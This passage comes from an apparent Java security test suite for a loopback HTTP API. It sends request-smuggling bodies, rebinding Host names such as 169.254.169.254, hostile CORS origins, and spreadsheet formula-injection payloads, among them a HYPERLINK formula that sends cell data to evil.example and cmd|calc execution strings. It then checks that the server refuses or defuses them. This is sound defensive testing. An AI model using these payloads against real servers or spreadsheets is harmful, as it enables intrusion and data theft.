    private RawHttp.Response probe(String kind, String label, Req req, Expectation expect) {
        sentByKind.merge(kind, 1, Integer::sum);
        boolean lengthGiven = req.extra.stream().anyMatch(h -> h[0].equalsIgnoreCase("Content-Length")
                || h[0].equalsIgnoreCase("Transfer-Encoding"));
        RawHttp.Response r = http.send(req.head(), req.body,
                req.chunked && !lengthGiven);
        judge(kind + " " + req.method + " " + shorten(label), r, expect, false);
        if (r.status() >= 200 && r.status() < 300) {
            if (req.method.equals("DELETE")) {
                failures.add(kind + " " + shorten(label) + ": a hostile DELETE succeeded");
            }
            track(r);
        }
        return r;
    }

    /**
     * Bodies framed so that a lenient parser finds a second request inside them (the chunk-extension
     * quoting that Jetty 11 got wrong, among others). Each is sent with a write token, so the body is
     * read; the connection must then carry exactly one answer, never one for the request in the body.
     */
    private void smuggling() {
        String head = "POST " + API + "/exchanges HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer " + writeToken
                + "\r\nContent-Type: application/json\r\n";
        String smuggled = "GET " + API + "/units/smuggled HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n";
        List<String[]> cases = List.of(
                new String[] {"unclosed quote in a chunk extension",
                        head + "Transfer-Encoding: chunked\r\n\r\n1;a=\"\r\nx\r\n0\r\n\r\n" + smuggled},
                new String[] {"quote closed after the chunk data",
                        head + "Transfer-Encoding: chunked\r\n\r\n1;a=\"b\r\nx\r\n0\r\n\r\n\"\r\n" + smuggled},
                new String[] {"bare LF ends the chunk size",
                        head + "Transfer-Encoding: chunked\r\n\r\n1\nx\r\n0\r\n\r\n" + smuggled},
                new String[] {"chunked and a Content-Length",
                        head + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + smuggled},
                new String[] {"two Content-Lengths",
                        head + "Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + smuggled},
                new String[] {"obfuscated Transfer-Encoding",
                        head + "Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + smuggled});
        for (String[] smuggling : cases) {
            sentByKind.merge("smuggling", 1, Integer::sum);
            List<RawHttp.Response> answers = http.sendAll(smuggling[1].getBytes(StandardCharsets.ISO_8859_1));
            if (answers.size() != 1) {
                failures.add("smuggling " + smuggling[0] + ": " + answers.size() + " answers on one connection: "
                        + answers.stream().map(a -> a.status() + " " + shorten(a.text())).toList());
            } else {
                judge("smuggling " + smuggling[0], answers.get(0), anyCleanStatus(), false);
                if (answers.get(0).text().contains("smuggled")) {
                    failures.add("smuggling " + smuggling[0] + ": the body's request was answered");
                }
            }
        }
    }

    /** The server listens on loopback: a name a rebinding page would send is 421, a loopback name served. */
    private void hostNames() {
        List<String> foreign = List.of("evil.example", "evil.example:" + server.port(), "127.0.0.1.evil.example",
                "localhost.evil.example", "127.0.0.2", "0.0.0.0", "[::2]", "local%68ost", "xn--localhost-",
                "LOCALHOST.", "169.254.169.254", "evil.example\t");
        for (String host : foreign) {
            sentByKind.merge("host", 1, Integer::sum);
            List<String[]> headers = RawHttp.headers();
            headers.add(new String[] {"Host", host});
            headers.add(new String[] {"Connection", "close"});
            RawHttp.Response r = http.send(RawHttp.head("GET " + API + "/exchanges HTTP/1.1", headers), null, false);
            judge("host " + host, r, is(400, 421), false);
        }
        for (String host : List.of("localhost", "127.0.0.1", "[::1]:" + server.port())) {
            sentByKind.merge("host", 1, Integer::sum);
            List<String[]> headers = RawHttp.headers();
            headers.add(new String[] {"Host", host});
            headers.add(new String[] {"Connection", "close"});
            judge("host " + host, http.send(RawHttp.head("GET " + API + "/units HTTP/1.1", headers), null, false),
                    is(200), false);
        }
    }

    /** Only the app origin may call from a browser: other preflights are refused, other answers not shared. */
    private void crossOrigin() {
        List<String> origins = List.of("https://evil.example", "null", "https://app.example.evil.example",
                "http://app.example", "https://APP.example", APP_ORIGIN + ".", APP_ORIGIN + ":443", "*", "");
        for (String origin : origins) {
            sentByKind.merge("cors", 1, Integer::sum);
            RawHttp.Response preflight = probeOrigin("OPTIONS", origin, true);
            judge("cors preflight from " + origin, preflight, is(403), false);
            if (preflight.header("Access-Control-Allow-Origin") != null) {
                failures.add("cors preflight from " + origin + ": allowed");
            }
            sentByKind.merge("cors", 1, Integer::sum);
            RawHttp.Response read = probeOrigin("GET", origin, false);
            judge("cors read from " + origin, read, is(200), false);
            if (read.header("Access-Control-Allow-Origin") != null) {
                failures.add("cors read from " + origin + ": shared with the page");
            }
        }
        sentByKind.merge("cors", 1, Integer::sum);
        RawHttp.Response allowed = probeOrigin("OPTIONS", APP_ORIGIN, true);
        judge("cors preflight from the app", allowed, is(204), false);
        if (!APP_ORIGIN.equals(allowed.header("Access-Control-Allow-Origin"))) {
            failures.add("cors preflight from the app: not allowed");
        }
    }

    private RawHttp.Response probeOrigin(String method, String origin, boolean preflight) {
        List<String[]> headers = RawHttp.headers();
        headers.add(new String[] {"Host", "127.0.0.1:" + server.port()});
        headers.add(new String[] {"Connection", "close"});
        headers.add(new String[] {"Origin", origin});
        if (preflight) {
            headers.add(new String[] {"Access-Control-Request-Method", "DELETE"});
            headers.add(new String[] {"Access-Control-Request-Headers", "authorization"});
        }
        return http.send(RawHttp.head(method + " " + API + "/units HTTP/1.1", headers), null, false);
    }

    /** Texts a spreadsheet would run are stored as they are and come out of every CSV answer defused. */
    private void formulas() throws Exception {
        List<String> formulas = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1");
        for (String formula : formulas) {
            ObjectNode body = exchange();
            body.put("ref", "formula-" + (++sequence) + formula);
            body.put("notes", formula);
            body.putArray("mediators").add(formula);
            probe("formula", "exchange " + formula, request("POST", API + "/exchanges", body.toString()), is(201));
        }
        for (String csv : List.of(API + "/exchanges?format=csv", API + "/exchanges?format=csv&limit=500")) {
            sentByKind.merge("formula", 1, Integer::sum);
            RawHttp.Response r = http.send(request("GET", csv, (String) null).head(), null, false);
            judge("formula " + csv, r, is(200), false);
            for (String formula : formulas) {
                if (r.text().contains("," + formula) || r.text().contains(",\"" + formula)
                        || r.text().startsWith(formula)) {
                    failures.add("formula " + csv + ": a cell begins with " + shorten(formula));
                }
            }
        }
    }

    private void probeRaw(String label, byte[] request, boolean mayClose) {
        sentByKind.merge("raw-socket", 1, Integer::sum);
        RawHttp.Response r = http.send(request, null, false, true);
        if (r.status() < 0 && mayClose && r.failure() != null && !r.failure().startsWith("no answer")) {
            closedWithoutAnswer++;
            return;
        }
        // 505 answers an HTTP version the server does not speak (HTTP/0.9, HTTP/9.9): the protocol's own word.
        boolean version = label.equals("HTTP/0.9") || label.equals("HTTP/9.9");
        judge("raw-socket " + label, r, version ? is(400, 505) : anyCleanStatus(), version);
    }

    private void judge(String label, RawHttp.Response r, Expectation expect, boolean raw) {
        if (r.status() < 0) {
            failures.add(label + ": " + r.failure());
            return;
        }
        String body = r.text();
        if (r.status() >= 500 && !(raw && r.status() == 505)) {
            failures.add(label + ": answered " + r.status() + " " + shorten(body));
        } else if (!expect.test(r.status())) {
            failures.add(label + ": expected " + expect + ", got " + r.status() + " " + shorten(body));
        }
        if (body.contains("Exception") || body.contains("at org.") || body.contains("\tat ")
                || body.contains("at java.") || body.contains("at io.javalin")) {
            failures.add(label + ": body shows a stack trace or exception: " + shorten(body));
        }
        if (r.status() >= 400) {
            String type = r.header("Content-Type");
            if (type == null || !type.startsWith("application/problem+json")) {
                failures.add(label + ": " + r.status() + " as " + type + ", not application/problem+json: "
                        + shorten(body));
                return;
            }
            try {
                JsonNode problem = JSON.readTree(body);
                boolean complete = problem.path("type").isTextual() && problem.path("title").isTextual()
                        && problem.path("status").isInt() && problem.path("status").asInt() == r.status()
                        && problem.path("detail").isTextual() && !problem.path("detail").asText().isBlank();
                if (!complete) {
                    failures.add(label + ": incomplete problem " + shorten(body));
                }
            } catch (Exception e) {
                failures.add(label + ": problem body is not JSON: " + shorten(body));
            }
        }
    }

    private static void track(RawHttp.Response r) {
        String location = r.header("Location");
        if (r.status() == 201 && location != null) {
            String[] parts = location.split("/");
            expected.get(parts[parts.length - 2]).add(parts[parts.length - 1]);
            accepted++;
        }
    }

    private static RawHttp.Response setup(String method, String path, String body) {
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        List<String[]> headers = RawHttp.headers();
        headers.add(new String[] {"Host", "127.0.0.1"});
        headers.add(new String[] {"Connection", "close"});
        headers.add(new String[] {"Authorization", "Bearer " + writeToken});
        headers.add(new String[] {"Content-Type", "application/json"});
        headers.add(new String[] {"Content-Length", Integer.toString(bytes.length)});
        RawHttp.Response r = http.send(RawHttp.head(method + " " + path + " HTTP/1.1", headers), bytes, false);
        assertThat(r.status()).as("setup %s %s: %s", method, path, r.text()).isEqualTo(201);
        track(r);
        return r;
    }

    private static String last(RawHttp.Response r) {
        String[] parts = r.header("Location").split("/");
        return parts[parts.length - 1];
    }

    private Set<String> listIds(String resource) throws Exception {
        Set<String> ids = new HashSet<>();
        String cursor = null;
        do {
            String target = API + "/" + resource + "?limit=500" + (cursor == null ? "" : "&cursor=" + encode(cursor));
            RawHttp.Response r = http.send(request("GET", target, (String) null).head(), null, false);
            assertThat(r.status()).as(target).isEqualTo(200);
            JsonNode page = JSON.readTree(r.body());
            page.path("items").forEach(item -> ids.add(item.path("id").asText()));
            cursor = page.path("nextCursor").isTextual() ? page.path("nextCursor").asText() : null;
        } while (cursor != null);
        return ids;
    }

    private int versionOf(String path) throws Exception {
        RawHttp.Response r = http.send(request("GET", path, (String) null).head(), null, false);
        assertThat(r.status()).as(path).isEqualTo(200);
        return JSON.readTree(r.body()).path("version").asInt();
    }

    // ---------------------------------------------------------------- expectations

    private interface Expectation extends IntPredicate {
    }

    private static Expectation is(int... statuses) {
        return new Expectation() {
            @Override
            public boolean test(int status) {
                return Arrays.stream(statuses).anyMatch(s -> s == status);
            }

            @Override
            public String toString() {
                return Arrays.toString(statuses);
            }
        };
    }

    /** Any 4xx: the request is refused, however the server words it. */
    private static Expectation refused() {
        return new Expectation() {
            @Override
            public boolean test(int status) {
                return status >= 400 && status < 500;
            }

            @Override
            public String toString() {
                return "4xx";
            }
        };
    }

    /** Valid despite looking hostile, or refused: either way clean. */
    private static Expectation clean() {
        return new Expectation() {
            @Override
            public boolean test(int status) {
                return status >= 200 && status < 500;
            }

            @Override
            public String toString() {
                return "2xx or 4xx";
            }
        };
    }

    private static Expectation anyCleanStatus() {
        return clean();
    }

    // ---------------------------------------------------------------- JSON and bytes

    private static ObjectNode object(String json) {
        try {
            return (ObjectNode) JSON.readTree(json);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static Map<String, Shape> fields(Object... pairs) {
        Map<String, Shape> fields = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            fields.put((String) pairs[i], (Shape) pairs[i + 1]);
        }
        return fields;
    }

    private static final String HOLE = "@@hostile-raw@@";

    /** The body with the value at {@code pointer} replaced by raw JSON text {@code raw} (created when absent). */
    private static byte[] with(ObjectNode body, String pointer, String raw) {
        String[] path = pointer.substring(1).split("/", -1);
        JsonNode node = body;
        for (int i = 0; i < path.length - 1; i++) {
            JsonNode next = node.isArray() ? node.get(Integer.parseInt(path[i])) : node.get(path[i]);
            if (next == null || !next.isContainerNode()) {
                next = JSON.createObjectNode();
                ((ObjectNode) node).set(path[i], next);
            }
            node = next;
        }
        String last = path[path.length - 1];
        if (node.isArray()) {
            ((ArrayNode) node).set(Integer.parseInt(last), TextNode.valueOf(HOLE));
        } else {
            ((ObjectNode) node).put(last, HOLE);
        }
        return body.toString().replace("\"" + HOLE + "\"", raw).getBytes(StandardCharsets.UTF_8);
    }

    private static String quote(String s) {
        return TextNode.valueOf(s).toString();
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    /** The JSON text with {@code bytes} spliced in right after the first {@code marker}. */
    private static byte[] splice(String json, String marker, byte[] bytes) {
        int at = json.indexOf(marker) + marker.length();
        return concat(json.substring(0, at).getBytes(StandardCharsets.UTF_8), bytes,
                json.substring(at).getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /** The JSON text padded with trailing spaces (insignificant) to exactly {@code size} bytes. */
    private static byte[] padTo(byte[] json, int size) {
        String text = new String(json, StandardCharsets.UTF_8).strip();
        return (text + " ".repeat(Math.max(0, size - text.getBytes(StandardCharsets.UTF_8).length)))
                .getBytes(StandardCharsets.UTF_8);
    }

    private static String shorten(String s) {
        String flat = s.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
        return flat.length() > 160 ? flat.substring(0, 160) + "…(" + flat.length() + ")" : flat;
    }
}
